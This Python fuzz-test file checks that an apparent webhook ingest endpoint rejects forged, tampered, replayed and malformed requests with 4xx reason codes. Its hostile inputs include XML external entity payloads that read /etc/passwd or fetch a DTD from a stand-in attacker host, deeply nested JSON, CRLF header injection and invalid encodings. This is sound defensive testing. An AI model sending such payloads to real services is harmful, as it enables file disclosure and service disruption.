"""Bad input at the webhook endpoint: random bodies, headers, sizes, encodings, signatures, methods and source
ids, as API Gateway REST proxy events, through the real ingest handler on moto.

Properties, for every request:
- the handler never raises (an unhandled exception is a 502 from API Gateway and a retry storm);
- no 5xx, except 503 with reason ``temporarily_unavailable`` while storage is failing (a simulated outage);
- every rejection is a JSON object with ``status`` and a snake_case ``reason`` code;
- a 2xx only for a request whose signature the test itself produced with the source's real secret — anything
  unsigned, forged, tampered with or mis-routed is refused;
- a correctly signed sample from ``events/`` is accepted (or a duplicate) whenever storage works;
- hostile bodies for every source — JSON nested past any parser's recursion limit, lone surrogate escapes in ids,
  types and keys, UTF-16/UTF-32 with and without a byte-order mark, invalid UTF-8, XML with a DOCTYPE in any
  encoding, deeply nested XML — signed with the source's real secret or not at all, are a 4xx with a reason, and
  the correlation id of every answer is strict (D95).
"""

from __future__ import annotations

import base64
import codecs
import hashlib
import json
import re
import time
from dataclasses import dataclass, field
from typing import Any

import pytest
from botocore.exceptions import EndpointConnectionError
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ledgerlink.local.functions import FunctionError
from ledgerlink.local.signers import sign
from ledgerlink.store import clients

from tests.conftest import EVENTS
from tests.fuzz.conftest import EXAMPLES, FuzzStack, json_paths

REASON = re.compile(r"^[a-z][a-z0-9_]*$")
WEBHOOK_SOURCES = ("stripe", "brex", "adyen", "salesforce", "ramp", "hubspot", "concur")
HOST = "hooks.ledgerlink.example"
STORAGE = ("dynamodb", "s3", "sqs")
SIGNATURE_HEADERS = ("stripe-signature", "webhook-id", "webhook-timestamp", "webhook-signature", "x-ramp-signature",
                     "x-hubspot-signature-v3", "x-hubspot-request-timestamp", "concur-signature", "soapaction",
                     "x-correlation-id", "content-type", "content-length")


def _samples() -> dict[str, list[bytes]]:
    return {source: [p.read_bytes() for p in sorted((EVENTS / source).glob("*")) if p.suffix in (".json", ".xml")]
            for source in WEBHOOK_SOURCES}


SAMPLES = _samples()


@dataclass
class Request:
    """What the strategy built, and what the test knows about it."""

    event: dict[str, Any]
    signed_by_us: bool = False         # authentic: signed with the source's real secret (may be accepted)
    sample: bool = False               # an untouched, correctly signed sample from events/ (must be accepted)
    outage: bool = False
    notes: list[str] = field(default_factory=list)


def api_gateway_event(method: str, source: str | None, headers: dict[str, str] | None, body: str | None, *,
                      base64_encoded: bool, query: dict[str, str] | None = None) -> dict[str, Any]:
    path = f"/webhooks/{source}" if source is not None else "/webhooks/"
    return {"resource": "/webhooks/{source}", "path": path, "httpMethod": method, "headers": headers,
            "multiValueHeaders": {k: [v] for k, v in (headers or {}).items()}, "queryStringParameters": query,
            "pathParameters": {"source": source} if source is not None else None, "stageVariables": None,
            "body": body, "isBase64Encoded": base64_encoded,
            # API Gateway's requestContext.path carries the stage: the URL the provider called (HubSpot signs it)
            "requestContext": {"requestId": "fuzz-request-0001", "stage": "v1", "httpMethod": method, "path": "/v1" + path,
                               "resourcePath": "/webhooks/{source}", "identity": {"sourceIp": "203.0.113.9"}}}


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=12), children, max_size=5),
    max_leaves=20)
header_names = st.sampled_from(SIGNATURE_HEADERS) | st.text(
    alphabet=st.characters(min_codepoint=33, max_codepoint=126, exclude_characters=":"), min_size=1, max_size=20)
header_values = st.text(max_size=80) | st.sampled_from(["t=1,v1=00", "v1,abc", "sha256=", "", "\x00", "é" * 40])


def _encode(body: bytes, draw: Any) -> tuple[str | None, bool, bool]:
    """API Gateway hands the body over as text, or base64 when it is binary: (body, isBase64Encoded, intact).
    Sometimes the body is absent or its base64 is broken (then it is not the body that was signed)."""
    choice = draw(st.sampled_from(["text"] * 6 + ["base64"] * 2 + ["base64-broken", "none"]))
    if choice == "none":
        return None, False, not body
    if choice == "base64":
        return base64.b64encode(body).decode(), True, True
    if choice == "base64-broken":
        return draw(st.text(max_size=40)) + "=*", True, False
    try:
        return body.decode("utf-8"), False, True
    except UnicodeDecodeError:
        return base64.b64encode(body).decode(), True, True


@st.composite
def unsigned_requests(draw: Any) -> Request:
    """Random everything: source id (configured, unknown, not a webhook kind, odd text), method, headers, body."""
    configured = st.sampled_from([*WEBHOOK_SOURCES, "bank", "expensify", "xero"])
    source = draw(st.one_of(configured, configured, configured, configured, st.text(max_size=30), st.none()))
    method = draw(st.one_of(st.just("POST"), st.just("POST"), st.just("POST"), st.sampled_from(
        ["GET", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "post"]), st.text(max_size=8)))
    kind = draw(st.sampled_from(["bytes", "json", "sample", "oversized", "xml"]))
    if kind == "bytes":
        body = draw(st.binary(max_size=600))
    elif kind == "json":
        body = json.dumps(draw(json_values)).encode()
    elif kind == "sample":
        body = draw(st.sampled_from([b for samples in SAMPLES.values() for b in samples]))
    elif kind == "xml":
        body = draw(st.sampled_from([b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>', b"<soapenv:Envelope/>", b"<",
                                     b"<?xml version='1.0'?><a><b>" * 3]))
    else:
        body = b"{" + b'"pad":"' + b"x" * draw(st.integers(262_100, 300_000)) + b'"}'
    headers = draw(st.none() | st.dictionaries(header_names, header_values, max_size=8))
    text, encoded, _ = _encode(body, draw)
    query = draw(st.none() | st.dictionaries(st.sampled_from(["token", "x", ""]), st.text(max_size=30), max_size=2))
    return Request(api_gateway_event(method, source, headers, text, base64_encoded=encoded, query=query),
                   notes=[f"unsigned {kind}"])


def _mutated(sample: bytes, draw: Any) -> bytes:
    """A real sample with a few values deleted or replaced by random JSON: deep into each parser."""
    try:
        document = json.loads(sample)
    except ValueError:  # SOAP XML: cut a random slice out of it
        start = draw(st.integers(0, len(sample)))
        return sample[:start] + sample[start + draw(st.integers(1, 60)):]
    for _ in range(draw(st.integers(1, 3))):
        paths = json_paths(document)
        if not paths:
            break
        shallow = [path for path in paths if len(path) <= 2]   # the envelope, where parsers look first
        *parents, leaf = draw(st.sampled_from(shallow if shallow and draw(st.booleans()) else paths))
        target = document
        for part in parents:
            target = target[part]
        if draw(st.booleans()) and isinstance(target, dict):
            del target[leaf]
        else:
            target[leaf] = draw(json_values)
    return json.dumps(document).encode()


def _body_for(source: str, draw: Any) -> tuple[bytes, bool]:
    """A body to sign: a real sample, a sample with random values swapped in or out, or random JSON / bytes."""
    kind = draw(st.sampled_from(["sample", "sample", "mutated", "mutated", "mutated", "json", "bytes"]))
    if kind == "sample":
        return draw(st.sampled_from(SAMPLES[source])), True
    if kind == "mutated":
        return _mutated(draw(st.sampled_from(SAMPLES[source])), draw), False
    if kind == "json":
        return json.dumps(draw(json_values)).encode(), False
    return draw(st.binary(max_size=400)), False


@st.composite
def signed_requests(draw: Any, secrets: dict[str, str], source: str) -> Request:
    """Correctly signed requests (samples and random bodies), sometimes tampered with after signing."""
    body, is_sample = _body_for(source, draw)
    url = f"https://{HOST}/v1/webhooks/{source}"
    kind = source  # the example configuration names each webhook source after its kind
    try:
        signed = sign(kind, body, secrets[source], url=url, now=int(time.time()))
    except (ValueError, TypeError, KeyError, AttributeError):  # Adyen signs inside its JSON: random bytes cannot be
        return Request(api_gateway_event("POST", source, {"host": HOST}, body.decode("utf-8", "replace"),
                                         base64_encoded=False), notes=["unsignable"])
    headers = {"Host": HOST, "Content-Type": signed.content_type, **signed.headers}
    query = {"token": secrets[source]} if signed.url_suffix else None
    body_out, signed_by_us = signed.body, True
    tamper = draw(st.sampled_from(["none"] * 6 + ["body", "header", "secret", "stale", "source"]))
    notes = [f"signed {source}{' sample' if is_sample else ''}", f"tamper={tamper}"]
    if tamper == "body":
        position = draw(st.integers(0, max(0, len(body_out) - 1)))
        flipped = bytes([body_out[position] ^ 0x01]) if body_out else b"x"
        body_out = body_out[:position] + flipped + body_out[position + 1:]
        # Salesforce signs nothing (the token is in the URL) and Adyen's HMAC leaves fields such as eventDate out
        # (D30): a changed byte there is still an authentic delivery; for every other source it is a forgery
        signed_by_us = kind in ("adyen", "salesforce")
    elif tamper == "header" and (signed.headers or query):
        if query:
            query = {"token": query["token"][:-1] + ("A" if query["token"][-1] != "A" else "B")}
        else:
            name = draw(st.sampled_from(sorted(signed.headers)))
            headers[name] = draw(header_values.filter(lambda v, old=headers[name]: v != old))
        signed_by_us = False
    elif tamper == "secret":
        from ledgerlink.local.secrets import generate

        forged = sign(kind, body, generate(kind), url=url, now=int(time.time()))
        headers = {"Host": HOST, "Content-Type": forged.content_type, **forged.headers}
        body_out, signed_by_us = forged.body, False
        query = {"token": "forged-" + secrets[source][:8]} if forged.url_suffix else None
    elif tamper == "stale":  # signed long ago: outside every source's replay window
        stale = sign(kind, body, secrets[source], url=url, now=int(time.time()) - 10 * 86_400)
        headers = {"Host": HOST, "Content-Type": stale.content_type, **stale.headers}
        body_out = stale.body
        signed_by_us = kind in ("adyen", "salesforce")  # neither signs a time (D30): a replay is just a duplicate
    elif tamper == "source":  # a valid signature for one source, sent to another
        other = draw(st.sampled_from([s for s in WEBHOOK_SOURCES if s != source]))
        source, signed_by_us = other, False
    text, encoded, intact = _encode(body_out, draw)
    signed_by_us = signed_by_us and intact
    headers = {name if draw(st.booleans()) else name.upper(): value for name, value in headers.items()}
    return Request(api_gateway_event("POST", source, headers, text, base64_encoded=encoded, query=query),
                   signed_by_us=signed_by_us, sample=is_sample and tamper == "none" and intact, notes=notes)


class Outage:
    """Storage failing the way an exhausted SDK retry surfaces: every DynamoDB / S3 / SQS call raises."""

    def __init__(self) -> None:
        self.on = False

    def __call__(self, **kwargs: Any) -> None:
        if self.on:
            raise EndpointConnectionError(endpoint_url="https://simulated-outage.invalid")


@pytest.fixture(scope="module")
def outage(fuzz_stack: FuzzStack) -> Outage:
    switch = Outage()
    for service in STORAGE:
        clients.client(service).meta.events.register("before-call", switch)
    return switch


def check(stack: FuzzStack, outage: Outage, request: Request, stats: dict[str, int]) -> dict[str, Any]:
    outage.on = request.outage
    try:
        response = stack.host.invoke("ingest", request.event)
    except FunctionError as error:
        pytest.fail(f"the ingest handler raised {error.payload['errorType']}: {error.payload['errorMessage']} "
                    f"({request.notes})")
    finally:
        outage.on = False
    status = response["statusCode"]
    stats[f"{status}"] = stats.get(f"{status}", 0) + 1
    assert isinstance(status, int) and 200 <= status < 600, response
    body_text = response["body"]
    if status >= 500:
        assert status == 503 and request.outage, (status, body_text, request.notes)
    if status >= 400:
        body = json.loads(body_text)
        assert isinstance(body, dict) and body.get("status") in ("rejected", "unavailable"), body
        assert isinstance(body.get("reason"), str) and REASON.match(body["reason"]), body
        if status == 503:
            assert body["reason"] == "temporarily_unavailable" and response["headers"].get("Retry-After"), body
    else:
        assert request.signed_by_us, f"accepted a request that was not validly signed: {request.notes} → {body_text}"
    if request.sample and not request.outage:
        assert status in (200, 202), (status, body_text, request.notes)
    return response


def _run(stack: FuzzStack, outage: Outage, strategy: Any, record_property: Any, name: str) -> dict[str, int]:
    stats: dict[str, int] = {}
    cases = {"n": 0}

    @settings(max_examples=EXAMPLES, deadline=None, database=None, derandomize=True,
              suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much,
                                     HealthCheck.large_base_example])
    @given(request=strategy, outage_on=st.integers(0, 9))
    def property_(request: Request, outage_on: int) -> None:
        cases["n"] += 1
        request.outage = outage_on == 0   # one request in ten meets failing storage
        check(stack, outage, request, stats)

    property_()
    record_property("fuzz_cases", f"{name}: {cases['n']} cases, statuses {dict(sorted(stats.items()))}")
    return stats


def test_random_requests_are_refused_with_a_reason_and_never_a_5xx(fuzz_stack, outage, record_property):
    stats = _run(fuzz_stack, outage, unsigned_requests(), record_property, "webhook: random requests")
    assert not any(status.startswith("2") for status in stats)
    assert {"404", "401"} <= set(stats)  # unknown sources and missing signatures were both exercised


@pytest.mark.parametrize("source", WEBHOOK_SOURCES)
def test_signed_and_tampered_requests_are_accepted_only_when_authentic(fuzz_stack, outage, record_property, source):
    stats = _run(fuzz_stack, outage, signed_requests(fuzz_stack.secrets, source), record_property,
                 f"webhook: signed/tampered {source}")
    assert "401" in stats and (set(stats) & {"200", "202"}) and (set(stats) & {"400", "401"})


def test_every_sample_signed_correctly_is_accepted(fuzz_stack, outage):
    """The positive control of the properties above: the strategies' notion of 'validly signed' is right."""
    for source, samples in SAMPLES.items():
        for body in samples:
            url = f"https://{HOST}/v1/webhooks/{source}"
            signed = sign(source, body, fuzz_stack.secrets[source], url=url)
            event = api_gateway_event("POST", source, {"Host": HOST, "Content-Type": signed.content_type,
                                                       **signed.headers}, signed.body.decode(), base64_encoded=False,
                                      query={"token": fuzz_stack.secrets[source]} if signed.url_suffix else None)
            check(fuzz_stack, outage, Request(event, signed_by_us=True, sample=True, notes=[source]), {})



# ---- hostile bodies (issue 18, D95): nesting, lone surrogates, encodings, invalid UTF-8, DTDs — every source ----
# Each of these used to answer 503 (or expand an entity): JSON nested past the parser's recursion limit, a lone
# surrogate escape in a field the verifier or storage encodes, a UTF-16 SOAP message with a DOCTYPE. The property:
# whatever the body and whoever signed it, the answer is < 500 (storage failing aside) with a snake_case reason,
# and the correlation id the answer carries is a strict one.

MARK = "__hostile__"
HOSTILE_REASONS = {"payload_too_deep", "invalid_unicode", "malformed_json", "malformed_xml", "xml_dtd_forbidden"}
STRICT_CORRELATION = re.compile(r"[A-Za-z0-9._:-]{8,64}")
LONE_SURROGATES = [b"\\ud800", b"\\udbff", b"\\udc00", b"\\udfff", b"\\ud83d\\ud83d", b"\\ude00\\ud83d", b"\\uD800"]
INVALID_UTF8 = [b"\xff", b"\xfe", b"\x80", b"\xc3\x28", b"\xed\xa0\x80", b"\xed\xbf\xbf", b"\xc0\xaf", b"\xe2\x82",
                b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80"]
CODECS = ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"]
BOMS = {"utf-16-le": codecs.BOM_UTF16_LE, "utf-16-be": codecs.BOM_UTF16_BE, "utf-32-le": codecs.BOM_UTF32_LE,
        "utf-32-be": codecs.BOM_UTF32_BE}
DEPTHS = st.sampled_from([65, 128, 1_000, 1_500, 5_000, 20_000]) | st.integers(65, 30_000)


def _spliced(sample: bytes, raw: bytes, draw: Any) -> bytes:
    """A JSON sample with ``raw`` (not necessarily JSON) standing where one of its values or keys was."""
    document = json.loads(sample)
    paths = [path for path in json_paths(document) if path]
    shallow = [path for path in paths if len(path) <= 3]   # envelope fields: id, type, eventCode, subscriptionType
    *parents, leaf = draw(st.sampled_from(shallow if shallow and draw(st.booleans()) else paths))
    target = document
    for part in parents:
        target = target[part]
    if isinstance(target, dict) and draw(st.booleans()):
        target[MARK] = target.pop(leaf)   # the hostile text becomes a key
    else:
        target[leaf] = MARK
    return json.dumps(document).encode().replace(json.dumps(MARK).encode(), raw, 1)


def _deep_json(draw: Any) -> bytes:
    depth = draw(DEPTHS)
    opening, closing = draw(st.sampled_from([(b"[", b"]"), (b'{"a":', b"}"), (b'{"a":[', b"]}"), (b"[{}, [", b"]]")]))
    return opening * depth + b"1" + (closing * depth if draw(st.booleans()) else b"")


def _xml_in(codec: str, text: str, draw: Any) -> bytes:
    """A SOAP text in ``codec``, declared as such (or still as UTF-8), with or without a byte-order mark."""
    declared = {"utf-8": "UTF-8", "utf-16": "UTF-16", "utf-32": "UTF-32"}[codec[:6] if codec != "utf-8" else codec]
    if draw(st.booleans()):
        text = text.replace('encoding="UTF-8"', f'encoding="{declared}"', 1)
    return (BOMS.get(codec, b"") if draw(st.booleans()) else b"") + text.encode(codec)


@st.composite
def hostile_bodies(draw: Any, source: str) -> tuple[bytes, str]:
    """A body for ``source`` built from its real samples (sometimes another source's) that no parser can read within
    the limits — except a UTF-16 SOAP message without a DOCTYPE, which is a valid delivery."""
    kind = draw(st.sampled_from(["deep", "surrogate", "encoding", "invalid-utf8", "dtd"]))
    origin = source if draw(st.integers(0, 4)) else draw(st.sampled_from(WEBHOOK_SOURCES))
    sample = draw(st.sampled_from(SAMPLES[origin]))
    if origin == "salesforce":
        text = sample.decode()
        if kind == "deep":
            depth = draw(DEPTHS)
            return text.replace("</sObject>", "<a>" * depth + "</a>" * depth + "</sObject>", 1).encode(), kind
        if kind == "surrogate":  # a character reference to a surrogate: not an XML character
            return text.replace("</OrganizationId>", "&#xD800;</OrganizationId>", 1).encode(), kind
        if kind == "invalid-utf8":
            position = draw(st.integers(0, len(sample)))
            return sample[:position] + draw(st.sampled_from(INVALID_UTF8)) + sample[position:], kind
        codec = draw(st.sampled_from(["utf-8", *CODECS]))
        if kind == "dtd":
            entity = draw(st.sampled_from(['<!ENTITY e "EXPANDED">', '<!ENTITY e SYSTEM "file:///etc/passwd">',
                                           '<!ENTITY % p SYSTEM "http://attacker.invalid/p">%p;', ""]))
            text = text.replace("?>", f"?><!DOCTYPE soapenv:Envelope [{entity}]>", 1)
            if "ENTITY e" in entity:
                text = text.replace("</OrganizationId>", "&e;</OrganizationId>", 1)
        return _xml_in(codec, text, draw), kind
    if kind == "deep":
        return _spliced(sample, _deep_json(draw), draw), kind
    if kind == "surrogate":
        prefix = draw(st.sampled_from([b"", b"evt_", b"invoice.paid"]))
        return _spliced(sample, b'"' + prefix + draw(st.sampled_from(LONE_SURROGATES)) + b'"', draw), kind
    if kind == "invalid-utf8":
        bad = draw(st.sampled_from(INVALID_UTF8))
        return _spliced(sample, b'"' + bad + b'"', draw) if draw(st.booleans()) else sample + bad, kind
    codec = draw(st.sampled_from(CODECS))
    body = (BOMS.get(codec, b"") if draw(st.booleans()) else b"") + sample.decode().encode(codec)
    if kind == "dtd":   # a DOCTYPE in front of JSON: still just not JSON
        body = b'<!DOCTYPE x [<!ENTITY e "x">]>' + body
    return body, kind


def _raw_signature(source: str, body: bytes, secret: str, url: str) -> tuple[dict[str, str], dict[str, str] | None]:
    """The provider's signature over these exact bytes (the local signers parse and re-serialize JSON)."""
    from ledgerlink.connectors.sources.brex.webhook import signature_headers as brex_headers
    from ledgerlink.connectors.sources.hubspot.webhook import signature_headers as hubspot_headers
    from ledgerlink.connectors.sources.ramp.webhook import signature_header as ramp_header
    from ledgerlink.connectors.sources.stripe.webhook import signature_header as stripe_header
    from ledgerlink.local.signers import rsa_sign

    now = int(time.time())
    headers = {"stripe": lambda: stripe_header(body, secret, now),
               "brex": lambda: brex_headers(body, secret, "msg_" + hashlib.sha256(body).hexdigest()[:24], now),
               "ramp": lambda: ramp_header(body, secret),
               "hubspot": lambda: hubspot_headers(secret, "POST", url, body, now * 1000),
               "concur": lambda: {"Concur-Signature": rsa_sign(secret, body)}}.get(source, dict)()
    return headers, ({"token": secret} if source == "salesforce" else None)


@st.composite
def hostile_requests(draw: Any, secrets: dict[str, str], source: str) -> Request:
    """A hostile body for ``source``, signed with the source's real secret or not at all; sometimes the gateway
    event itself is odd (a lone surrogate in the body text or a header, a forged correlation id)."""
    body, kind = draw(hostile_bodies(source))
    signed = draw(st.booleans()) or source == "adyen"   # Adyen: the HMAC is inside the body, parsed first anyway
    url = f"https://{HOST}/v1/webhooks/{source}"
    if source == "adyen" and kind in ("surrogate", "deep") and draw(st.booleans()):
        # items validly signed, the hostile value spliced in afterwards (eventDate & co. are outside the HMAC)
        body = _spliced(sign("adyen", draw(st.sampled_from(SAMPLES["adyen"])), secrets[source], url=url).body,
                        _deep_json(draw) if kind == "deep" else b'"' + draw(st.sampled_from(LONE_SURROGATES)) + b'"',
                        draw)
    signature, query = _raw_signature(source, body, secrets[source], url) if signed else ({}, None)
    headers = {"Host": HOST, "Content-Type": "text/xml" if source == "salesforce" else "application/json", **signature}
    oddity = draw(st.sampled_from(["none"] * 5 + ["correlation", "header-surrogate", "text-surrogate"]))
    authentic_headers = True
    if oddity == "correlation":
        headers["X-Correlation-Id"] = draw(st.sampled_from(["abcdefgh\n", "a" * 65, 'x" y', "ok-but\r\n{}", "\ud800" * 9])
                                           | st.text(max_size=80))
    elif oddity == "header-surrogate":
        name = draw(st.sampled_from(sorted(headers)))
        headers[name] = headers[name][:8] + "\ud800" + headers[name][8:]
        # a signature header (or, for HubSpot, the Host it signs as part of the URL) is no longer what was signed
        authentic_headers = name not in signature and not (name == "Host" and source == "hubspot")
    text, encoded, intact = _encode(body, draw)
    if oddity == "text-surrogate":   # the event's JSON can carry what HTTP cannot: a lone surrogate in the text
        text, encoded, intact = (text or "") + draw(st.sampled_from(["\ud800", "\udfff", "\ud83d", "\udc80"])), False, False
    signed_by_us = signed and intact and authentic_headers
    return Request(api_gateway_event("POST", source, headers, text, base64_encoded=encoded, query=query),
                   signed_by_us=signed_by_us, notes=[f"hostile {kind} → {source}", f"signed={signed}", oddity])


@pytest.mark.parametrize("source", WEBHOOK_SOURCES)
def test_hostile_bodies_are_refused_with_a_reason_and_never_a_5xx(fuzz_stack, outage, record_property, source):
    reasons: dict[str, int] = {}
    stats: dict[str, int] = {}
    cases = {"n": 0}

    @settings(max_examples=EXAMPLES, deadline=None, database=None, derandomize=True,
              suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much,
                                     HealthCheck.large_base_example])
    @given(request=hostile_requests(fuzz_stack.secrets, source), outage_on=st.integers(0, 9))
    def property_(request: Request, outage_on: int) -> None:
        cases["n"] += 1
        request.outage = outage_on == 0
        response = check(fuzz_stack, outage, request, stats)
        assert STRICT_CORRELATION.fullmatch(response["headers"]["X-Correlation-Id"]), response["headers"]
        if response["statusCode"] >= 400:
            reason = json.loads(response["body"])["reason"]
            reasons[reason] = reasons.get(reason, 0) + 1

    property_()
    record_property("fuzz_cases", f"webhook: hostile bodies → {source}: {cases['n']} cases, statuses "
                                  f"{dict(sorted(stats.items()))}, reasons {dict(sorted(reasons.items()))}")
    assert "400" in stats and set(reasons) & HOSTILE_REASONS


HOSTILE_CASES = {
    "deep-object": b'{"a":' * 5_000 + b"1" + b"}" * 5_000,
    "deep-array": b"[" * 5_000 + b"]" * 5_000,
    "deep-unclosed": b"[" * 30_000,
    "surrogate-type": b'{"id": "evt_1", "type": "x\\ud800", "eventType": "x\\ud800", "event_type": "x\\udfff"}',
    "surrogate-key": b'{"\\ud800": 1}',
    "utf16": '{"id": "evt_1", "type": "invoice.paid"}'.encode("utf-16"),
    "utf16-le-no-bom": '{"id": "evt_1", "type": "invoice.paid"}'.encode("utf-16-le"),
    "utf32": '{"id": "evt_1", "type": "invoice.paid"}'.encode("utf-32"),
    "utf32-be-bom": codecs.BOM_UTF32_BE + '{"id": "evt_1"}'.encode("utf-32-be"),
    "invalid-utf8": b'{"id": "evt_\xed\xa0\x80", "type": "\xff"}',
    "xml-dtd-utf16": ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e "EXPANDED">]><x>&e;</x>'
                      ).encode("utf-16"),
    "xml-deep": b"<a>" * 5_000 + b"</a>" * 5_000,
}


@pytest.mark.parametrize("case", sorted(HOSTILE_CASES))
@pytest.mark.parametrize("source", WEBHOOK_SOURCES)
def test_every_source_answers_each_hostile_body_signed_or_not_with_a_4xx_reason(fuzz_stack, outage, source, case):
    body = HOSTILE_CASES[case]
    for signed in (True, False):
        url = f"https://{HOST}/v1/webhooks/{source}"
        headers, query = _raw_signature(source, body, fuzz_stack.secrets[source], url) if signed else ({}, None)
        event = api_gateway_event("POST", source, {"Host": HOST, **headers}, base64.b64encode(body).decode(),
                                  base64_encoded=True, query=query)
        response = check(fuzz_stack, outage, Request(event, notes=[case, source, f"signed={signed}"]), {})
        reason = json.loads(response["body"])["reason"]
        assert 400 <= response["statusCode"] < 500, (case, source, signed, response)
        if signed or source == "adyen":   # parsed: refused for what the body is
            assert reason in HOSTILE_REASONS, (case, source, signed, reason)
        else:                              # not signed: refused before its body is read
            assert reason.startswith("signature_"), (case, source, signed, reason)
